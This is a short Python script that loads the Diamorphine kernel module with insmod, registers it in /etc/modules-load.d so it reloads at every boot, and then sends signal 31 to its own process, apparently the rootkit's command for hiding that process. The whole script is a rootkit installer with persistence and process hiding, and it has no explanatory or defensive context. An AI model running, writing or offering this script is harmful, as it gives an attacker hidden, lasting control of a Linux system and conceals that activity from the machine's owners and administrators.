import subprocess
import os

ko = "/lib/modules/{}/extra/diamorphine.ko".format(os.uname().release)
subprocess.run(["insmod", ko])
with open("/etc/modules-load.d/diamorphine.conf", "w") as f:
    f.write("diamorphine\n")
subprocess.run(["kill", "-31", str(os.getpid())])
